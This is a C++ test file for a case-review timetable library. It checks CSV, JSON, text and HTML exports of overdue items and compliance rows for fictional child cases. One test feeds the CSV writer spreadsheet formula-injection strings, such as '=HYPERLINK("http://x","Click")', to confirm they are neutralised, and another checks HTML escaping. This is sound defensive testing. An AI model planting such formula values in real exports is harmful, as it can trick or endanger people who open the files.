  ASSERT_EQ(records.size(), 10u);
  EXPECT_EQ(records[0], (std::vector<std::string>{"reference", "kind", "item", "agency", "occurrence", "title", "owner",
                                                  "status", "due", "days_late"}));
  std::size_t child_c = 0;
  for (std::size_t i = 1; i < records.size(); ++i) {
    ASSERT_EQ(records[i].size(), 10u);
    child_c += records[i][0] == "Child C" ? 1u : 0u;
    EXPECT_EQ(records[i][7], "overdue") << "every item of `overdue` is past due";
  }
  EXPECT_EQ(child_c, 1u);
  EXPECT_EQ(records[1][8], "2024-01-16");
  EXPECT_EQ(records[1][9], "45");
  EXPECT_EQ(records[1][1], "obligation");
  EXPECT_EQ(records[9][2], "authors_briefing");
  EXPECT_EQ(records[9][1], "milestone");
  EXPECT_EQ(records[9][9], "4");

  const auto doc = json::parse(scr::due_items_json(items, "overdue as of 2024-03-01"));
  EXPECT_EQ(doc["schema"], "libscr.due_items");
  EXPECT_EQ(doc["version"].get<int>(), scr::json_schema_version);
  EXPECT_EQ(doc["query"], "overdue as of 2024-03-01");
  ASSERT_EQ(doc["items"].size(), 9u);
  EXPECT_EQ(doc["items"][0]["due"], "2024-01-16");
  EXPECT_EQ(doc["items"][0]["days_late"].get<int>(), 45);
  EXPECT_EQ(doc["items"][8]["item"], "authors_briefing");
  EXPECT_EQ(doc["items"][8]["agency"], "");
  EXPECT_EQ(doc["items"][8]["occurrence"].get<int>(), 1);

  EXPECT_EQ(doc["items"][0]["status"], "overdue");
  EXPECT_EQ(scr::due_items_csv({}), "reference,kind,item,agency,occurrence,title,owner,status,due,days_late\r\n");
  EXPECT_TRUE(json::parse(scr::due_items_json({}, "none"))["items"].empty());
}

TEST(report_lists, compliance_as_text_csv_and_json) {
  const auto db = three_reviews();
  const auto rows = db.compliance(ymd(2024, 1, 1), ymd(2024, 4, 30));
  // Child A: decision and completion; Child C: the decision only (no review
  // held, the completion is waived); Child D: both, open.
  ASSERT_EQ(rows.size(), 5u);

  const std::string text = scr::compliance_text(rows);
  const auto lines = split(text, "\n");
  ASSERT_EQ(lines.size(), 9u);  // header, 5 rows, blank, summary, ""
  EXPECT_EQ(lines[0].rfind("REFERENCE  HEADLINE    MILESTONE   DUE         ORIGINAL    COMPLETED   RESULT", 0), 0u)
      << lines[0];
  EXPECT_EQ(lines[6], "");
  // Child A decided on 1 February, by the 15th (001:851): on time. Child C on
  // 29 February: 14 days late. The other three are open.
  EXPECT_EQ(lines[7], "1 of 2 completed headline milestones on time; 3 still open");
  const auto line_for = [&](std::string_view reference, std::string_view headline) {
    for (const auto& l : lines) {
      if (l.rfind(reference, 0) == 0 && l.find(std::string("  ") + std::string(headline) + " ") != std::string::npos) {
        return l;
      }
    }
    ADD_FAILURE() << "no line for " << reference << " " << headline << " in\n" << text;
    return std::string();
  };
  EXPECT_NE(line_for("Child A", "decision").find("2024-02-15  2024-02-15  2024-02-01  on time"), std::string::npos);
  EXPECT_NE(line_for("Child A", "completion").find("2024-10-01  2024-08-01  -           open, extended"),
            std::string::npos);
  EXPECT_NE(line_for("Child C", "decision").find("2024-02-29  late by 14 days"), std::string::npos);
  // Child D: referred 2 April, decision due 2 May (001:851).
  EXPECT_NE(line_for("Child D", "decision").find("2024-05-02  2024-05-02  -           open"), std::string::npos);
  EXPECT_EQ(scr::compliance_text({}).substr(scr::compliance_text({}).find('\n')),
            "\n\n0 of 0 completed headline milestones on time; 0 still open\n");

  const auto records = parse_csv(scr::compliance_csv(rows));
  ASSERT_EQ(records.size(), 6u);
  EXPECT_EQ(records[0], (std::vector<std::string>{"reference", "headline", "milestone", "due", "original_due",
                                                  "completed_on", "on_time", "extended", "breach", "days_late"}));
  for (const auto& rec : records) ASSERT_EQ(rec.size(), 10u);
  const auto it = std::find_if(records.begin(), records.end(),
                               [](const auto& rec) { return rec[0] == "Child C" && rec[1] == "decision"; });
  ASSERT_NE(it, records.end());
  EXPECT_EQ(*it, (std::vector<std::string>{"Child C", "decision", "decision", "2024-02-15", "2024-02-15", "2024-02-29",
                                           "false", "false", "false", "14"}));
  const auto open = std::find_if(records.begin(), records.end(),
                                 [](const auto& rec) { return rec[0] == "Child A" && rec[1] == "completion"; });
  ASSERT_NE(open, records.end());
  EXPECT_EQ((*open)[5], "");
  EXPECT_EQ((*open)[7], "true");

  const auto doc = json::parse(scr::compliance_json(rows, ymd(2024, 1, 1), ymd(2024, 4, 30)));
  EXPECT_EQ(doc["schema"], "libscr.compliance");
  EXPECT_EQ(doc["version"].get<int>(), scr::json_schema_version);
  EXPECT_EQ(doc["from"], "2024-01-01");
  EXPECT_EQ(doc["to"], "2024-04-30");
  ASSERT_EQ(doc["rows"].size(), 5u);
  std::size_t nulls = 0, on_time = 0;
  for (const auto& j : doc["rows"]) {
    nulls += j["completed_on"].is_null() ? 1u : 0u;
    on_time += j["on_time"] == true ? 1u : 0u;
    if (j["reference"] == "Child A" && j["headline"] == "completion") {
      EXPECT_EQ(j["due"], "2024-10-01");
      EXPECT_EQ(j["original_due"], "2024-08-01");
      EXPECT_EQ(j["extended"], true);
    }
  }
  EXPECT_EQ(nulls, 3u);
  EXPECT_EQ(on_time, 1u);
}

}  // namespace

namespace {

// Every correction shows in the exports' history, with who, why and what it
// corrected, escaped in HTML.
TEST(report_history, corrections_show_in_the_exported_history) {
  auto r = scr::review::open(pack("solihull-2011-scr"), ew(), "Child Q", london(2024, 1, 15, 9),
                             as("lscb_chair", "A. Patel"), {{"incident_at", utc(2024, 1, 13, 22)}});
  r.record("panel_convened", london(2024, 2, 19), as("lscb_chair", "A. Patel"));
  r.amend(2, london(2024, 1, 19), {}, "typed <19/02> for 19/01", as("administrator", "J. Lowe"));
  const auto doc = json::parse(scr::timetable_json(r, ymd(2024, 2, 1)));
  ASSERT_EQ(doc["history"].size(), 3u);
  EXPECT_EQ(doc["history"][1]["corrected_by"], "amended (3)");
  EXPECT_EQ(doc["history"][2]["kind"], "amended");
  EXPECT_EQ(doc["history"][2]["corrects"].get<int>(), 2);
  EXPECT_EQ(doc["history"][2]["reason"], "typed <19/02> for 19/01");
  EXPECT_EQ(doc["history"][2]["by"]["role"], "administrator");
  EXPECT_EQ(doc["history"][2]["at"], "2024-01-19T10:00:00Z");
  EXPECT_TRUE(doc["history"][0]["corrects"].is_null());
  const std::string page = scr::timetable_html(r, ymd(2024, 2, 1));
  EXPECT_NE(page.find("amended panel_convened (event 2)"), std::string::npos);
  EXPECT_NE(page.find("typed &lt;19/02&gt; for 19/01"), std::string::npos);
  EXPECT_EQ(page.find("typed <19/02>"), std::string::npos);
}

}  // namespace

// The due-items CSV is written straight into the document, without a string
// per cell: it must be exactly the document the generic writer makes from the
// same cells (every text cell neutralised and quoted as needed; --raw and
// --excel too).
TEST(report_csv, due_items_written_directly_equal_the_generic_document) {
  std::vector<scr::due_item> items;
  const std::vector<std::string> texts{"Child Q",  "=HYPERLINK(\"http://x\",\"Click\")", "+44 20", "-minus",
                                       "@at",      "\ttab",                               "\rcr",   "with,comma",
                                       "say \"hi\"", "two\nlines",                        "Zoë",    ""};
  const std::size_t n = texts.size();
  for (std::size_t k = 0; k < n; ++k) {
    const int i = static_cast<int>(k);
    items.push_back({texts[k], k % 2 ? "obligation" : "milestone", texts[(k + 1) % n], texts[(k + 2) % n],
                     texts[(k + 3) % n], texts[(k + 4) % n], 1 + i % 3, scr::make_date(2000 + i, 1 + i % 12, 1 + i % 28),
                     i * 7});
  }
  items.push_back({"R", "milestone", "decision", "", "t", "o", 1, scr::make_date(1900, 1, 1), 0});
  items.push_back({"R", "milestone", "decision", "", "t", "o", 12, scr::make_date(2199, 12, 31), 100000});
  for (const bool raw : {false, true}) {
    for (const bool excel : {false, true}) {
      const scr::csv_options options{raw, excel};
      std::vector<std::vector<std::string>> rows{
          {"reference", "kind", "item", "agency", "occurrence", "title", "owner", "status", "due", "days_late"}};
      for (const auto& i : items) {
        rows.push_back({i.reference, i.kind, i.id, i.agency, std::to_string(i.occurrence), i.title, i.owner,
                        i.days_overdue > 0 ? "overdue" : "open", scr::format_date(i.due),
                        std::to_string(i.days_overdue)});
      }
      EXPECT_EQ(scr::due_items_csv_with(items, options), scr::csv_table(rows, options)) << raw << excel;
    }
  }
}
